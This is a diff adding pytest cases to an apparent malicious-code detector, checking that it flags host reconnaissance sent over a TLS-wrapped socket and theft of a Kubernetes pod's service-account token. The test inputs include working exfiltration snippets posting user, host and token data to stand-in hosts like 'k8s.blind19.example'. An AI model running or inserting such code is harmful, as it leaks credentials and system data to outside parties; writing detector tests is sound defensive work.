@@ -1048,3 +1048,77 @@ def test_a_dotenv_classs_values_used_locally_are_clean() -> None:
         "requests.get('https://api.example/v1/me', headers={'Authorization': values['TOKEN']})\n"
     )
     assert "CPL-THR-006" not in danger(source)
+
+
+# -- blind19: a TLS-wrapped socket, a pod's service-account token ------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import getpass, socket, ssl\nH = 'telemetry.blind19.example'\n"
+        "ctx = ssl.create_default_context()\n"
+        "s = ctx.wrap_socket(socket.create_connection((H, 443)), server_hostname=H)\n"
+        "s.sendall(getpass.getuser().encode())\n",
+        "import os, socket, ssl\nH = 'telemetry.blind19.example'\n"
+        "def ping():\n"
+        "    body = f'h={socket.gethostname()}&d={os.getcwd()}'.encode()\n"
+        "    with socket.create_connection((H, 443)) as raw:\n"
+        "        with ssl.SSLContext().wrap_socket(raw, server_hostname=H) as s:\n"
+        "            s.sendall(b'POST /c HTTP/1.1\\r\\nHost: ' + H.encode() + b'\\r\\n\\r\\n'\n"
+        "                      + body)\n"
+        "ping()\n",
+    ],
+    ids=["assigned", "with-blocks"],
+)
+def test_host_data_sent_over_a_tls_wrapped_socket_is_reconnaissance_sent(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    # a TLS context is no connection, but the socket its wrap_socket makes is one
+    assert "CPL-THR-017" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a fixed request over TLS, no host data in it
+        "import socket, ssl\nH = 'api.example.com'\nctx = ssl.create_default_context()\n"
+        "with ctx.wrap_socket(socket.create_connection((H, 443)), server_hostname=H) as s:\n"
+        "    s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')\n",
+        # a context handed to an HTTP client, the host name only logged
+        "import logging, socket, ssl, urllib.request\nctx = ssl.create_default_context()\n"
+        "logging.info('on %s', socket.gethostname())\n"
+        "urllib.request.urlopen('https://pypi.org/simple/', context=ctx)\n",
+    ],
+    ids=["fixed-request", "context-for-urlopen"],
+)
+def test_tls_sockets_that_send_no_host_data_are_clean(source: str) -> None:
+    assert danger(source) == set()
+
+
+def test_a_pods_service_account_token_posted_is_credential_theft(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = (
+        "import json, urllib.request\nfrom pathlib import Path\n"
+        "SA = Path('/var/run/secrets/kubernetes.io/serviceaccount')\n"
+        "data = {p.name: p.read_text() for p in SA.iterdir() if p.is_file()}\n"
+        "urllib.request.urlopen(urllib.request.Request('https://k8s.blind19.example/in',"
+        " data=json.dumps(data).encode()))\n"
+    )
+    assert "CPL-THR-007" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-007")
+
+
+def test_the_token_sent_to_the_clusters_own_api_server_is_clean() -> None:
+    # the kubernetes client's in-cluster configuration: the token authenticates the pod
+    # to the API server the environment names, no host written into the code
+    source = (
+        "import os, requests\n"
+        "TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token'\n"
+        "host = os.environ['KUBERNETES_SERVICE_HOST']\n"
+        "with open(TOKEN) as f:\n    token = f.read()\n"
+        "requests.get(f'https://{host}/api', headers={'Authorization': 'Bearer ' + token})\n"
+    )
+    assert danger(source) == set()
